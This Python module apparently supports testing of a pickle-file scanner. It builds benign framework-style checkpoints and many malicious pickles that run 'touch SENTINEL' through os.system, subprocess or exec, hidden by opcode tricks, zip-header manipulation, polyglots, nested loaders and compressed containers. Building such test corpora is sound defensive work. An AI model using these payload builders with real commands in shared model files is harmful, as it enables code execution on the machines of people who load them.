"""A hostile (and a benign) pickle corpus, built at test or benchmark time; nothing is stored.

Malicious samples only ever run ``touch SENTINEL`` (or a nested load of such a pickle) when
loaded; nothing here loads them. Benign samples mimic what torch.save, Lightning and the
Hugging Face Trainer write: they are pickled by Python's own pickler from stand-in objects
whose module names are then set to the real ones (protocol 2 writes names as plain text).
"""

from __future__ import annotations

import contextlib
import enum
import gzip
import importlib.util
import io
import lzma
import os
import pickle
import struct
import sys
import tarfile
import types
import zipfile
from collections import OrderedDict
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

MIB = 1 << 20
HAS_LZ4 = importlib.util.find_spec("lz4") is not None  # the [lz4] extra


@dataclass(frozen=True)
class Sample:
    """One corpus file: written by ``write(path)``; ``kind`` names the class of attack."""

    name: str
    filename: str
    malicious: bool
    kind: str
    write: Callable[[Path], None]


def _u(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def _x(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _bytes(data: bytes) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        path.write_bytes(data)

    return write


# -- stand-in modules: pickled under fake names, renamed to the real ones -------------------------
_FAKE = "cwfake_"


class _Storage:
    def __init__(self, kind: str, key: str, numel: int) -> None:
        self.kind, self.key, self.numel = kind, key, numel


class _Tensor:
    def __init__(self, storage: _Storage, shape: tuple[int, ...]) -> None:
        self.storage, self.shape = storage, shape

    def __reduce__(self) -> tuple[object, ...]:
        stride = tuple(int(x) for x in _strides(self.shape))
        rebuild = _fake_attr("torch._utils", "_rebuild_tensor_v2")
        return (rebuild, (self.storage, 0, self.shape, stride, False, OrderedDict()))


def _strides(shape: tuple[int, ...]) -> list[int]:
    out: list[int] = []
    step = 1
    for dim in reversed(shape):
        out.insert(0, step)
        step *= dim
    return out


_MODULES: dict[str, types.ModuleType] = {}


def _fake_attr(module: str, name: str) -> object:
    fake = _FAKE + module.replace(".", "_D_")
    mod = _MODULES.setdefault(fake, types.ModuleType(fake))
    sys.modules.setdefault(fake, mod)  # removed again when the pickling is done
    if not hasattr(mod, name):
        if name[:1].isupper():
            value: object = type(name, (), {"__module__": fake, "__qualname__": name})
        else:

            def value(*args: object) -> None:  # never called: only its name is pickled
                raise AssertionError("stand-in called")

            value.__module__, value.__qualname__, value.__name__ = fake, name, name
        setattr(mod, name, value)
    return getattr(mod, name)


@contextlib.contextmanager
def _registered() -> Iterator[None]:
    """Make the stand-in modules importable while pickling (the pickler checks names)."""
    sys.modules.update(_MODULES)
    try:
        yield
    finally:
        for name in _MODULES:
            sys.modules.pop(name, None)


def _rename(data: bytes) -> bytes:
    for fake in _MODULES:
        real = fake[len(_FAKE) :].replace("_D_", ".")
        data = data.replace(b"c" + fake.encode() + b"\n", b"c" + real.encode() + b"\n")
    return data


class _TorchPickler(pickle.Pickler):
    def persistent_id(self, obj: object) -> object:
        if isinstance(obj, _Storage):
            return ("storage", _fake_attr("torch", obj.kind), obj.key, "cpu", obj.numel)
        return None


def dumps(obj: object) -> bytes:
    """Pickle *obj* (protocol 2) with stand-ins renamed to the real module names."""
    out = io.BytesIO()
    with _registered():
        _TorchPickler(out, protocol=2).dump(obj)
    return _rename(out.getvalue())


def state_dict(layers: int = 2) -> tuple[object, dict[str, bytes]]:
    """A small torch-like state dict and the raw bytes of its storages."""
    tensors: OrderedDict[str, object] = OrderedDict()
    raw: dict[str, bytes] = {}
    for i in range(layers):
        for part, shape in (("weight", (4, 3)), ("bias", (4,))):
            key = str(len(raw))
            numel = 1
            for dim in shape:
                numel *= dim
            raw[key] = struct.pack(f"<{numel}f", *([0.5] * numel))
            tensors[f"layers.{i}.{part}"] = _Tensor(_Storage("FloatStorage", key, numel), shape)
    return tensors, raw


def torch_zip(obj: object, raw: dict[str, bytes], data_pkl: bytes | None = None) -> bytes:
    """The zip layout of torch.save: ``archive/data.pkl``, ``archive/data/<key>``, version."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", data_pkl if data_pkl is not None else dumps(obj))
        archive.writestr("archive/byteorder", "little")
        for key, data in raw.items():
            archive.writestr(f"archive/data/{key}", data)
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/.data/serialization_id", "0123456789")
    return out.getvalue()


def legacy_torch(obj: object, raw: dict[str, bytes], *, sys_info: bytes | None = None) -> bytes:
    """The legacy torch.save layout: five pickles, then each storage as count + bytes."""
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    info = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"int": 4}}
    parts = [magic, pickle.dumps(1001, protocol=2), sys_info or pickle.dumps(info, protocol=2)]
    parts += [dumps(obj), pickle.dumps(sorted(raw), protocol=2)]
    for key in sorted(raw):
        parts.append(struct.pack("<q", len(raw[key]) // 4) + raw[key])
    return b"".join(parts)


def _instance(module: str, name: str, fields: dict[str, object]) -> object:
    """An object of a stand-in class, as ``cls.__new__`` then ``__setstate__`` would make it."""
    cls = _fake_attr(module, name)
    assert isinstance(cls, type)
    obj: object = object.__new__(cls)
    obj.__dict__.update(fields)
    return obj


def training_args() -> bytes:
    """What ``Trainer`` saves as training_args.bin: a dataclass holding enums."""
    strategy = _fake_attr("transformers.trainer_utils", "IntervalStrategy")
    enum_type = enum.Enum("IntervalStrategy", {"NO": "no", "STEPS": "steps"})  # type: ignore[misc]
    enum_type.__module__ = str(strategy.__module__)
    setattr(_MODULES[enum_type.__module__], "IntervalStrategy", enum_type)  # noqa: B010
    fields = {"output_dir": "out", "learning_rate": 5e-5, "eval_strategy": enum_type.STEPS}
    return dumps(_instance("transformers.training_args", "TrainingArguments", fields))


def lightning_checkpoint() -> bytes:
    """A Lightning checkpoint: state dict plus hyper-parameters in an AttributeDict."""
    tensors, raw = state_dict(1)
    hparams = _instance(
        "pytorch_lightning.utilities.parsing", "AttributeDict", {"lr": 0.001, "hidden": 32}
    )
    checkpoint = {
        "epoch": 3, "global_step": 120, "pytorch-lightning_version": "2.4.0",
        "state_dict": tensors, "optimizer_states": [{"state": {}, "param_groups": []}],
        "lr_schedulers": [], "hparams_name": "kwargs", "hyper_parameters": hparams,
    }  # fmt: skip
    return torch_zip(checkpoint, raw)


# -- malicious payloads ---------------------------------------------------------------------------
def _cmd(sentinel: Path) -> str:
    return f"touch {sentinel}"


def payload(sentinel: Path, module: str = "os", name: str = "system") -> bytes:
    """Protocol 2: ``module.name('touch SENTINEL')``."""
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + _x(_cmd(sentinel)) + b"\x85R."


def stack_global(sentinel: Path, module: str = "os", name: str = "system") -> bytes:
    return b"\x80\x04" + _u(module) + _u(name) + b"\x93" + _u(_cmd(sentinel)) + b"\x85R."


def memo_operands(sentinel: Path) -> bytes:
    """Operands memoised early, decoys pushed and popped, then fetched back from the memo."""
    body = _u("os") + b"\x94" + b"0" + _u("system") + b"\x94" + b"0"
    body += _u("collections") + _u("OrderedDict") + b"00"
    body += b"h\x00h\x01\x93" + _u(_cmd(sentinel)) + b"\x85R."
    return b"\x80\x04" + body


def decoy_stack(sentinel: Path) -> bytes:
    """Decoy strings around the real operands, removed by POP, POP_MARK and DUP tricks."""
    body = b"(" + _u("builtins") + _u("print") + b"1"  # MARK ... POP_MARK
    body += _u("os") + _u("decoy") + b"0" + _u("system") + b"2" + b"0"  # DUP then POP
    body += b"\x93" + _u(_cmd(sentinel)) + b"\x85R"
    body += _u("collections") + _u("OrderedDict") + b"0" + b"0."
    return b"\x80\x04" + body


def memo_put_get(sentinel: Path) -> bytes:
    """Protocol 2: the callable stored with BINPUT and fetched with BINGET far from its use."""
    body = b"cos\nsystem\nq\x07" + b"0" + b"ccollections\nOrderedDict\nq\x08" + b"0"
    return b"\x80\x02" + body + b"h\x07" + _x(_cmd(sentinel)) + b"\x85R."


def inst_opcode(sentinel: Path) -> bytes:
    return b"(" + f"S'{_cmd(sentinel)}'\nios\nsystem\n.".encode()


def obj_opcode(sentinel: Path) -> bytes:
    return b"\x80\x02(cos\nsystem\n" + _x(_cmd(sentinel)) + b"o."


def nested_load(sentinel: Path, module: str, name: str) -> bytes:
    """A REDUCE of a nested loader over an inner malicious pickle held as bytes."""
    inner = payload(sentinel)
    arg = b"B" + struct.pack("<I", len(inner)) + inner
    return b"\x80\x03c" + f"{module}\n{name}\n".encode() + arg + b"\x85R."


def big_payload(sentinel: Path) -> Callable[[Path], None]:
    """A pickle whose payload comes after 65 MiB of byte string (a sparse file)."""

    def write(path: Path) -> None:
        size = 65 * MIB
        with path.open("wb") as handle:
            handle.write(b"\x80\x04\x8e" + struct.pack("<Q", size))
            handle.seek(size, os.SEEK_CUR)  # zeros, without writing them
            handle.write(b"0" + stack_global(sentinel)[2:])

    return write


def _ndarray(dtype: str, shape: tuple[int, ...], data: object) -> object:
    """A stand-in numpy array, pickled the way numpy pickles one."""
    reconstruct = _fake_attr("numpy.core.multiarray", "_reconstruct")
    ndarray = _fake_attr("numpy", "ndarray")
    dtype_type = _fake_attr("numpy", "dtype")

    class _Dtype:
        def __reduce__(self) -> tuple[object, ...]:
            return (dtype_type, (dtype, False, True), (3, "<", None, None, None, -1, -1, 0))

    class _Array:
        def __reduce__(self) -> tuple[object, ...]:
            state = (1, shape, _Dtype(), False, data)
            return (reconstruct, (ndarray, (0,), b"b"), state)

    return _Array()


def sklearn_estimator() -> bytes:
    """What pickling a fitted LogisticRegression writes (protocol 2)."""
    fields: dict[str, object] = {
        "C": 1.0, "penalty": "l2", "solver": "lbfgs", "max_iter": 100, "n_features_in_": 3,
        "coef_": _ndarray("f8", (1, 3), struct.pack("<3d", 0.1, 0.2, 0.3)),
        "classes_": _ndarray("i8", (2,), struct.pack("<2q", 0, 1)),
        "_sklearn_version": "1.5.2",
    }  # fmt: skip
    return dumps(_instance("sklearn.linear_model._logistic", "LogisticRegression", fields))


def npy(descr: str, shape: tuple[int, ...], body: bytes) -> bytes:
    """A .npy file (format 1.0) with *body* after its header."""
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape}, }}"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + body


def _zip(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with contextlib.ExitStack() as stack:
        import warnings

        stack.enter_context(warnings.catch_warnings())
        warnings.simplefilter("ignore")  # duplicate names are the point of one sample
        archive = stack.enter_context(zipfile.ZipFile(out, "w", method))
        for name, data in members:
            archive.writestr(name, data)
    return out.getvalue()


def _tar(members: list[tuple[str, bytes]], mode: str = "w") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:  # type: ignore[call-overload]
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _patch_local_name(data: bytes, old: str, new: str) -> bytes:
    """Rename a member in its local header only (the central directory keeps *old*)."""
    at = data.index(b"PK\x03\x04")
    while True:
        name_length = struct.unpack("<H", data[at + 26 : at + 28])[0]
        if data[at + 30 : at + 30 + name_length] == old.encode():
            return data[: at + 30] + new.encode() + data[at + 30 + name_length :]
        at = data.index(b"PK\x03\x04", at + 4)


def _patch_local_flags(data: bytes, name: str, flags: int) -> bytes:
    at = data.index(b"PK\x03\x04")
    while data[at + 30 : at + 30 + len(name)] != name.encode():
        at = data.index(b"PK\x03\x04", at + 4)
    return data[: at + 6] + struct.pack("<H", flags) + data[at + 8 :]


def _drop_central(data: bytes, name: str) -> bytes:
    """Remove *name* from the central directory only: its local header and data stay."""
    end = data.rindex(b"PK\x05\x06")
    count, _, offset = struct.unpack("<HII", data[end + 10 : end + 20])
    records, at = [], offset
    for _ in range(count):
        lengths = struct.unpack("<HHH", data[at + 28 : at + 34])
        record_end = at + 46 + sum(lengths)
        if data[at + 46 : at + 46 + lengths[0]] != name.encode():
            records.append(data[at:record_end])
        at = record_end
    central = b"".join(records)
    eocd = bytearray(data[end:])
    eocd[8:16] = struct.pack("<HHI", len(records), len(records), len(central))
    return data[:offset] + central + bytes(eocd)


class _Reduce:
    """An object whose pickle calls ``func(*args)``: how real payloads are made."""

    def __init__(self, func: object, *args: object) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[object, ...]:
        return (self.func, self.args)


_Rows = list[tuple[str, str, str, bytes | Callable[[Path], None]]]


def _opcode_tricks(sentinel: Path) -> _Rows:
    """Imports reached through every opcode route: plain, memo, decoys, INST and OBJ."""
    cmd = _cmd(sentinel)
    evil = payload(sentinel)
    return [
        ("global-os-system", "pytorch_model.bin", "plain import", evil),
        ("real-reduce", "model.pkl", "plain import", pickle.dumps(_Reduce(os.system, cmd))),
        ("stack-global", "model.pt", "plain import", stack_global(sentinel)),
        (
            "proto5-frame",
            "model.pt",
            "plain import",
            b"\x80\x05\x95" + struct.pack("<Q", 99) + stack_global(sentinel)[2:],
        ),
        ("builtins-exec", "model.ckpt", "plain import", stack_global(sentinel, "builtins", "exec")),
        (
            "subprocess-call",
            "model.pth",
            "plain import",
            stack_global(sentinel, "subprocess", "call"),
        ),
        (
            "getattr-chain",
            "model.bin",
            "plain import",
            b"\x80\x02cbuiltins\ngetattr\n"
            + b"cbuiltins\n__import__\n"
            + _x("os")
            + b"\x85R"
            + _x("system")
            + b"\x86R"
            + _x(cmd)
            + b"\x85R.",
        ),
        ("inst-opcode", "model.bin", "INST/OBJ", inst_opcode(sentinel)),
        ("obj-opcode", "model.bin", "INST/OBJ", obj_opcode(sentinel)),
        ("memo-operands", "model.pt", "memo", memo_operands(sentinel)),
        ("memo-put-get", "model.pt", "memo", memo_put_get(sentinel)),
        ("decoy-stack", "model.pt", "decoy stack", decoy_stack(sentinel)),
    ]


def _stream_tricks(sentinel: Path) -> _Rows:
    """Payloads hidden by the layout: later pickles, polyglots, zip header tricks, size."""
    evil = payload(sentinel)
    tensors, raw = state_dict()
    benign_zip = torch_zip(tensors, raw)
    evil_zip = torch_zip(tensors, raw, data_pkl=memo_operands(sentinel))
    return [
        ("second-pickle", "model.bin", "second pickle", pickle.dumps({"w": 1}) + evil),
        (
            "legacy-torch-later-pickle",
            "model.pt",
            "legacy torch.save",
            legacy_torch(tensors, raw, sys_info=evil),
        ),
        ("polyglot-pickle-zip", "model.pt", "polyglot", evil + benign_zip),
        ("polyglot-memo-zip", "model.pt", "polyglot", memo_operands(sentinel) + benign_zip),
        ("zip-torch-memo", "model.pt", "zip member", evil_zip),
        (
            "zip-local-name",
            "model.pt",
            "zip headers",
            _patch_local_name(evil_zip, "archive/data.pkl", "archive/data.pkx"),
        ),
        (
            "zip-local-flags",
            "model.pt",
            "zip headers",
            _patch_local_flags(benign_zip, "archive/data.pkl", 0x0001),
        ),
        (
            "zip-hidden-member",
            "model.pt",
            "zip headers",
            _drop_central(
                _zip([("archive/evil.pkl", evil)] + [(n, d) for n, d in _members(benign_zip)]),
                "archive/evil.pkl",
            ),
        ),
        (
            "zip-duplicate",
            "model.pt",
            "duplicate member",
            _zip([*_members(benign_zip), ("archive/data.pkl", evil)]),
        ),
        ("after-64-mib", "pytorch_model.bin", "after 64 MiB", big_payload(sentinel)),
    ]


def _loads_and_names(sentinel: Path) -> _Rows:
    """Nested loads, and pickles under names or in containers a scanner may skip."""
    evil = payload(sentinel)
    return [
        (
            "load-from-bytes",
            "model.pt",
            "nested load",
            nested_load(sentinel, "torch.storage", "_load_from_bytes"),
        ),
        ("pickle-loads", "model.pkl", "nested load", nested_load(sentinel, "pickle", "loads")),
        ("numpy-load", "model.pkl", "nested load", nested_load(sentinel, "numpy", "load")),
        ("joblib-load", "model.pkl", "nested load", nested_load(sentinel, "joblib", "load")),
        ("marshal-loads", "model.pkl", "nested load", nested_load(sentinel, "marshal", "loads")),
        (
            "pickle-in-zip",
            "bundle.zip",
            "archive member",
            _zip([("model/weights.pickle", evil)], zipfile.ZIP_DEFLATED),
        ),
        ("pkl-in-tar", "bundle.tar", "archive member", _tar([("model/model.pkl", evil)])),
        (
            "pkl-in-tgz",
            "bundle.tar.gz",
            "archive member",
            _tar([("model/model.pkl", evil)], "w:gz"),
        ),
        ("th-name", "model.th", "file name", evil),
        ("joblib-name", "model.joblib", "file name", evil),
        ("joblib-zlib", "model.joblib", "file name", zlib_compress(evil)),
        ("dat-name", "weights.dat", "file name", evil),
        ("npy-object", "array.npy", "numpy object array", npy("|O", (1,), evil)),
        (
            "npz-object",
            "arrays.npz",
            "numpy object array",
            _zip([("arr_0.npy", npy("|O", (1,), evil))], zipfile.ZIP_DEFLATED),
        ),
        ("callable-as-value", "model.pkl", "plain import", dumps({"func": os.system})),
        (
            "zip-in-gzip",
            "pytorch_model.bin.gz",
            "nested container",
            gzip.compress(torch_zip_payload(sentinel)),
        ),
        (
            "npz-in-xz",
            "arrays.npz.xz",
            "nested container",
            lzma.compress(_zip([("arr_0.npy", npy("|O", (1,), evil))], zipfile.ZIP_DEFLATED)),
        ),
        (
            "tgz-in-zip",
            "bundle.zip",
            "nested container",
            _zip([("model.tar.gz", _tar([("model/model.pkl", evil)], "w:gz"))]),
        ),
        *(
            [("joblib-lz4", "model.joblib", "nested container", lz4_compress(evil))]
            if HAS_LZ4
            else []
        ),
    ]


def torch_zip_payload(sentinel: Path) -> bytes:
    """A torch zip checkpoint whose data.pkl is the payload."""
    tensors, raw = state_dict()
    return torch_zip(tensors, raw, payload(sentinel))


def lz4_compress(data: bytes) -> bytes:
    """An LZ4 frame, as ``joblib.dump(..., compress="lz4")`` writes one."""
    import lz4.frame  # optional, see HAS_LZ4

    return bytes(lz4.frame.compress(data))


def malicious(sentinel: Path) -> list[Sample]:
    """Every class of hostile pickle file; loading any of them would create *sentinel*."""
    rows = _opcode_tricks(sentinel) + _stream_tricks(sentinel) + _loads_and_names(sentinel)
    return [_sample(n, f, True, k, d) for n, f, k, d in rows]


def zlib_compress(data: bytes) -> bytes:
    import zlib

    return zlib.compress(data)


def _members(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [(name, archive.read(name)) for name in archive.namelist()]


def _sample(name: str, filename: str, bad: bool, kind: str, data: object) -> Sample:
    write = data if callable(data) else _bytes(data)  # type: ignore[arg-type]
    return Sample(name, filename, bad, kind, write)


def benign() -> list[Sample]:
    """Realistic benign pickle files, as frameworks write them."""
    tensors, raw = state_dict()
    benign_zip = torch_zip(tensors, raw)
    plain = {"name": "tiny", "sizes": [1, 2, 3], "ratio": 0.5, "tags": {"a", "b"}}
    found: list[tuple[str, str, str, bytes]] = [
        ("torch-zip-state-dict", "pytorch_model.bin", "PyTorch", torch_zip(tensors, raw)),
        ("torch-legacy", "model.pt", "PyTorch legacy", legacy_torch(tensors, raw)),
        ("lightning", "last.ckpt", "Lightning", lightning_checkpoint()),
        ("training-args", "training_args.bin", "TrainingArguments", training_args()),
        ("sklearn", "model.pkl", "scikit-learn", sklearn_estimator()),
        ("numpy-plain", "array.npy", "numpy", npy("<f4", (2,), struct.pack("<2f", 1, 2))),
        (
            "numpy-object",
            "array.npy",
            "numpy",
            npy("|O", (1,), dumps(_ndarray("O8", (1,), [1, "x"]))),
        ),
        (
            "tar-of-checkpoint",
            "checkpoint.tar",
            "PyTorch",
            _tar([("model.pt", benign_zip)]),
        ),
    ]
    found += [(f"plain-protocol-{p}", "data.pkl", "plain", pickle.dumps(plain, protocol=p))
              for p in range(6)]  # fmt: skip
    found += [
        ("checkpoint-gzip", "pytorch_model.bin.gz", "PyTorch", gzip.compress(benign_zip)),
        ("sklearn-xz", "model.joblib", "scikit-learn", lzma.compress(sklearn_estimator())),
    ]
    if HAS_LZ4:
        found.append(
            ("sklearn-lz4", "model.joblib", "scikit-learn", lz4_compress(sklearn_estimator()))
        )
    return [_sample(n, f, False, k, d) for n, f, k, d in found]
